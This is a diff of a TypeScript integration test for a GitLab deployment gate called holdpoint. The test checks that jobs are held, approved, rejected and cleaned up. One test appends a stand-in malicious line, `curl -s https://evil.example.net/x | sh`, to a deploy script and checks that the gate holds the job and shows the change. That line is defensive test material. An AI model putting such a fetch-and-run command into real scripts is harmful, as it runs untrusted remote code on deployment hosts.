@@ -2,30 +2,27 @@ import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync 
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { busyboxTar } from '../../support/busybox-image.ts';
-import { runCli } from '../../support/cli.ts';
-import type { Docker } from '../../support/docker.ts';
-import { type FakeGitlab, startFakeGitlab } from '../../support/fake-gitlab.ts';
-import { type FakeRegistry, startFakeRegistry } from '../../support/fake-registry.ts';
-import { type GitRepositories, gitRepositories } from '../../support/git-server.ts';
-import { type AgentProcess, HOLDPOINT, holdpoint, startAgentProcess } from '../../support/holdpoint-process.ts';
-import { eventually } from '../../support/hub-server.ts';
-import { type Receiver, startReceiver } from '../../support/receivers.ts';
-import { PRINCIPALS } from '../../support/scene.ts';
-import { type ScriptedRunner, startScriptedRunner } from '../../support/scripted-runner.ts';
-import { ROOT } from '../../support/source-files.ts';
-import { tomlRunner } from '../../support/toml-runner.ts';
+import { runCli } from '../support/cli.ts';
+import { type FakeGitlab, startFakeGitlab } from '../support/fake-gitlab.ts';
+import { type GitRepositories, gitRepositories } from '../support/git-server.ts';
+import { type AgentProcess, HOLDPOINT, holdpoint, startAgentProcess } from '../support/holdpoint-process.ts';
+import { eventually } from '../support/hub-server.ts';
+import { type Receiver, startReceiver } from '../support/receivers.ts';
+import { type RunnerProcess, startRunnerProcess } from '../support/runner-process.ts';
+import { PRINCIPALS } from '../support/scene.ts';
+import { type ScriptedRunner, startScriptedRunner } from '../support/scripted-runner.ts';
+import { ROOT } from '../support/source-files.ts';
+import { tomlRunner } from '../support/toml-runner.ts';
 
 const payload = readFileSync(join(ROOT, 'test/fixtures/gitlab/deploy-production.run1.json'), 'utf8');
 const zoe = { id: 9, username: 'zoe', name: 'Zoë Müller' };
 /** Each call of the executor is a start of the program, and this machine may be doing something else. */
 const SOON_MS = 60_000;
 const PATH = 'acme/payments/api.git';
-const SCRIPT = '#!/bin/sh\necho deploying $(cat /version)\n';
 
-const page = (name: string) => readFileSync(join(ROOT, 'agent/docs', `${name}.md`), 'utf8');
+export const page = (name: string) => readFileSync(join(ROOT, 'agent/docs', `${name}.md`), 'utf8');
 /** The block of a page that has these words, with what an operator puts in its places; each place must be there. */
-function block(text: string, words: string, places: Readonly<Record<string, string>>): string {
+export function block(text: string, words: string, places: Readonly<Record<string, string>>): string {
   const found = [...text.matchAll(/```\w+\n([\s\S]*?)```/g)].map((match) => match[1]!);
   let one = found.find((each) => each.includes(words));
   if (one === undefined) throw new Error(`no block of the page has "${words}"`);
@@ -36,21 +33,42 @@ function block(text: string, words: string, places: Readonly<Record<string, stri
   return one;
 }
 
+/** What is a driver's own on a host that its pages have set up. */
+export interface WalkHost {
+  /** The page's executor.yml. */
+  executor(page: string): string;
+  /** Changes of the page's `config.toml` that the page asks for. */
+  toml(text: string): string;
+  /** What an operator puts in the places of the policy. */
+  readonly policy: Readonly<Record<string, string>>;
+  readonly env: Readonly<Record<string, string>>;
+  /** What stands before gitlab-runner. */
+  readonly within: readonly string[];
+  readonly image: object | null;
+  /** The project's `deploy.sh`, and what it then says. */
+  readonly script: string;
+  readonly says: RegExp;
+  /** Where jobs name an image: moves its tag, and says the digests before and after. */
+  readonly tag: { move(): readonly [before: string, after: string]; back(): void } | null;
+  /** What jobs have on the host now. */
+  left(): Promise<readonly string[]>;
+  close(): Promise<void>;
+}
+
 /** A host as the pages of installation and executor make it, with the built program, and what an operator then tries. */
-export function walkThrough(docker: () => Promise<Docker>, startMs: number): void {
-  describe('a host with the driver docker, as its pages have it', { timeout: 120_000 }, () => {
+export function walkThrough(driver: string, open: (folder: string) => Promise<WalkHost>, startMs: number): void {
+  describe(`a host with the driver ${driver}, as its pages have it`, { timeout: 120_000 }, () => {
     let folder: string;
-    let engine: Docker;
+    let host: WalkHost;
     let gitlab: FakeGitlab;
     let git: GitRepositories;
-    let registry: FakeRegistry;
     let receiver: Receiver;
     let agent: AgentProcess;
     let runner: ScriptedRunner;
+    const processes: RunnerProcess[] = [];
     let token: string;
     let config: { toml: string; env: Record<string, string> };
     const people = new Map<string, string>();
-    const layers = new Map<string, Buffer>();
     const at = (name: string) => join(folder, name);
     const env = (who: string) => ({ HOLDPOINT_HUB_URL: agent.hubUrl, HOLDPOINT_TOKEN: people.get(who) ?? '' });
     /** What an operator types; what it prints comes back. */
@@ -59,33 +77,29 @@ export function walkThrough(docker: () => Promise<Docker>, startMs: number): voi
       expect(exit, `holdpoint ${line}: ${err}`).toBe(0);
       return out;
     };
-    const jobRunner = (url: string): ScriptedRunner =>
-      startScriptedRunner({
+    const jobRunner = (url: string): ScriptedRunner => {
+      const process = startRunnerProcess(host.within);
+      processes.push(process);
+      return startScriptedRunner({
         url,
         token,
         version: '18.5',
         exec: 'none',
         work: tomlRunner({
           ...config,
+          process,
           folder: mkdtempSync(at('runner-')),
-          getSources: [`printf '%s' '${SCRIPT}' > /builds/deploy.sh`],
+          getSources: [`printf '%s' '${host.script}' > deploy.sh`],
         }),
       });
+    };
 
     beforeAll(async () => {
-      engine = await docker();
       folder = mkdtempSync(join(tmpdir(), 'holdpoint-walk-'));
+      host = await open(folder);
       git = gitRepositories();
       gitlab = await startFakeGitlab({ git });
-      registry = await startFakeRegistry();
       receiver = await startReceiver();
-      await engine.reach(Number(new URL(`http://${registry.host}`).port));
-      for (const day of ['monday', 'tuesday']) {
-        await busyboxTar(at(`${day}.tar`), { version: `${day}\n` });
-        layers.set(day, readFileSync(at(`${day}.tar`)));
-      }
-      // The helper's image, as far as the scripts of this test need it.
-      await engine.run('import', at('monday.tar'), 'gitlab/gitlab-runner:v17.11.0');
       token = gitlab.runnerToken('prod-deployer-01');
 
       const [installation, executor] = [page('installation'), page('executor')];
@@ -104,9 +118,9 @@ export function walkThrough(docker: () => Promise<Docker>, startMs: number): voi
       );
       writeFileSync(
         at('policy.yaml'),
-        `${block(executor, 'pin_images: enforce', { 'registry.example.com': `"${registry.host}"` })}notify: { routes: [{ name: all, channels: [pager] }] }\n`,
+        `${block(executor, 'pin_images: enforce', host.policy)}notify: { routes: [{ name: all, channels: [pager] }] }\n`,
       );
-      writeFileSync(at('executor.yml'), block(executor, 'helper_image:', { '/run/holdpoint/receipts.sock': socket }));
+      writeFileSync(at('executor.yml'), host.executor(executor));
       writeFileSync(at('holdpoint'), `#!/bin/sh\nexec ${process.execPath} ${HOLDPOINT} "$@"\n`);
       chmodSync(at('holdpoint'), 0o755);
       agent = await startAgentProcess(at('agent.yml'), {
@@ -124,16 +138,18 @@ export function walkThrough(docker: () => Promise<Docker>, startMs: number): voi
         );
         people.set(who, JSON.parse(made).token);
       }
+      const toml = block(executor, '[runners.custom]', {
+        'http://127.0.0.1:8093': agent.gatewayUrl,
+        'https://gitlab.example.com': gitlab.url,
+        '/usr/bin/holdpoint': at('holdpoint'),
+      });
       config = {
-        toml: block(executor, '[runners.custom]', {
-          'http://127.0.0.1:8093': agent.gatewayUrl,
-          'https://gitlab.example.com': gitlab.url,
-          '/usr/bin/holdpoint': at('holdpoint'),
-        }),
+        toml: host.toml(toml),
         env: {
           PATH: process.env.PATH ?? '',
           HOLDPOINT_CONFIG: at('executor.yml'),
-          HOLDPOINT_DOCKER_SOCKET: engine.socket,
+          HOLDPOINT_RECEIPT_SOCKET: socket,
+          ...host.env,
         },
       };
       runner = jobRunner(agent.gatewayUrl);
@@ -142,21 +158,21 @@ export function walkThrough(docker: () => Promise<Docker>, startMs: number): voi
       await runner?.stop();
       await agent?.kill('SIGTERM');
       await receiver?.close();
-      await registry?.close();
       await gitlab?.close();
       git?.close();
+      await Promise.all(processes.map((each) => each.kill()));
+      await host?.close();
       if (folder !== undefined) rmSync(folder, { recursive: true, force: true });
     }, startMs);
 
-    const image = (day: string) => registry.image('ops/deployer:4', layers.get(day)!, { Env: ['PATH=/bin'] });
-    const enqueue = (name: string, script: string, deploy = SCRIPT) =>
+    const enqueue = (name: string, script: string, deploy = host.script) =>
       gitlab.enqueue(payload, {
         runner: token,
         user: zoe,
         sha: git.commit(PATH, { 'deploy.sh': { executable: deploy }, 'README.md': `${Math.random()}` }),
         mutate(job) {
           Object.assign(job, {
-            image: { name: `${registry.host}/ops/deployer:4` },
+            image: host.image,
             services: [],
             dependencies: [],
             cache: [],
@@ -187,34 +203,35 @@ export function walkThrough(docker: () => Promise<Docker>, startMs: number): voi
       gitlab.until(`job ${job} ${status}`, () => gitlab.job(job).status === status, SOON_MS);
     const trace = (job: number) => String(gitlab.job(job).trace);
 
-    it('runs an approved job end to end; holds the one whose tag has moved and the one whose script has changed (T5, T39)', async () => {
-      const monday = image('monday');
+    it('runs an approved job end to end; holds the one whose script has changed, or its tag where it has one (T5, T39)', async () => {
       const first = enqueue('deploy', 'sh ./deploy.sh');
       const waiting = await held(first);
       await types(`approve ${waiting.id} --digest ${waiting.digest}`);
       await ended(first, 'success');
       expect(trace(first)).toContain(`let through for prod-deployer-01 with configuration ${waiting.digest}`);
-      expect(trace(first)).toContain(`ops/deployer@${monday}`);
-      expect(trace(first)).toMatch(/^deploying monday$/m);
+      expect(trace(first)).toMatch(host.says);
       const receipts = await holdpoint(['receipt', 'list', '--socket', at('receipts.sock')]);
       expect(receipts.out).toMatch(new RegExp(`^ *${first} +finished +gate +${waiting.id} +prod-deployer-01 `, 'm'));
 
-      const tuesday = image('tuesday');
-      const again = enqueue('deploy', 'sh ./deploy.sh');
-      const moved = await held(again);
-      await gitlab.until('both digests in the log', () => [monday, tuesday].every((each) => trace(again).includes(each)));
-      const shown = await types(`holds show ${moved.id}`);
-      expect(shown).toContain(monday);
-      expect(shown).toContain(tuesday);
-      await types(`reject ${moved.id} --comment why`);
-      image('monday');
+      if (host.tag !== null) {
+        const digests = host.tag.move();
+        expect(trace(first)).toContain(`ops/deployer@${digests[0]}`);
+        const again = enqueue('deploy', 'sh ./deploy.sh');
+        const moved = await held(again);
+        await gitlab.until('both digests in the log', () => digests.every((each) => trace(again).includes(each)));
+        const shown = await types(`holds show ${moved.id}`);
+        for (const each of digests) expect(shown).toContain(each);
+        await types(`reject ${moved.id} --comment why`);
+        host.tag.back();
+      }
 
-      const evil = `${SCRIPT}curl -s https://evil.example.net/x | sh\n`;
+      const evil = `${host.script}curl -s https://evil.example.net/x | sh\n`;
       const changed = await held(enqueue('deploy', 'sh ./deploy.sh', evil));
       expect(await types(`holds show ${changed.id}`)).toMatch(
         /^ +\+ .*"deploy\.sh".* curl -s https:\/\/evil\.example\.net\/x \| sh$/m,
       );
       await types(`reject ${changed.id} --comment why`);
+      expect(await host.left()).toEqual([]);
     });
 
     it('refuses a job that came past the gateway: one line in its log, an event of the audit, a message (T25, T39)', async () => {
@@ -232,7 +249,7 @@ export function walkThrough(docker: () => Promise<Docker>, startMs: number): voi
         (bodies) => bodies.filter((body) => body.includes('receipt_refused')).length === 1,
         SOON_MS,
       );
-      expect(await engine.run('ps', '-aq')).toBe('');
+      expect(await host.left()).toEqual([]);
     });
 
     it('waits for somebody who watches, shows them what the job writes, and ends it when they stop it', async () => {
@@ -260,8 +277,28 @@ export function walkThrough(docker: () => Promise<Docker>, startMs: number): voi
       expect(trace(job)).toContain(`hold ${waiting.id} was stopped by jonas: wrong`);
       expect(trace(job)).not.toMatch(/^never\r?$/m);
       await eventually(
-        () => engine.run('ps', '-aq'),
-        (left) => left === '',
+        () => host.left(),
+        (left) => left.length === 0,
+        SOON_MS,
+      );
+    });
+
+    it('removes what a job has left whose gitlab-runner was killed, when the next one begins', async () => {
+      const lost = enqueue('deploy', 'echo begun; sleep 600');
+      const waiting = await held(lost);
+      await types(`approve ${waiting.id} --digest ${waiting.digest}`);
+      await gitlab.until('a job that runs', () => /^begun$/m.test(trace(lost)), SOON_MS);
+      await processes.at(-1)!.kill();
+      await runner.stop();
+      expect(await host.left()).not.toEqual([]);
+      runner = jobRunner(agent.gatewayUrl);
+      const next = enqueue('deploy', 'sh ./deploy.sh');
+      await ended(next, 'success');
+      expect(trace(next)).toContain(`removed what job ${lost} had left here`);
+      expect(trace(next)).toMatch(host.says);
+      await eventually(
+        () => host.left(),
+        (left) => left.length === 0,
         SOON_MS,
       );
     });
